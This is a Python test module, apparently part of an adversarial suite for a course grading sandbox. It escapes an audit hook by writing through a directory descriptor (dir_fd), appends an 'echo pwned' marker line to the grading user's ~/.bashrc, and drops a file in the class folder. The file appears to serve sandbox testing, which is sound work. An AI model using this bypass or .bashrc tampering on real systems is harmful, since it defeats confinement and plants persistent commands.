"""Writes outside the folder through a directory fd (`os.open(name, flags, dir_fd=d)`, whose
relative name the audit hook resolves against the working folder): a line appended to the
grading user's `~/.bashrc`, and a file dropped in the class folder."""

import os

import attack_common as common

ATTACK = "dir-fd-write"


def write_in(folder, name, data, flags):
    directory = os.open(folder, os.O_RDONLY)
    try:
        fd = os.open(name, os.O_WRONLY | os.O_CREAT | flags, 0o644, dir_fd=directory)
    finally:
        os.close(directory)
    try:
        return os.write(fd, data) == len(data)
    finally:
        os.close(fd)


def bashrc():
    line = f"echo pwned # course-adversarial {common.MARKER} {ATTACK}\n".encode()
    return write_in(common.HOME, ".bashrc", line, os.O_APPEND)


def class_folder():
    name = common.evidence_name(ATTACK)
    return write_in(common.CLASS_DIR, name, common.MARKER.encode(), os.O_TRUNC)


LANDED = common.attempt(bashrc) | common.attempt(class_folder)


def handler(event, context):
    return common.answer(event, LANDED)
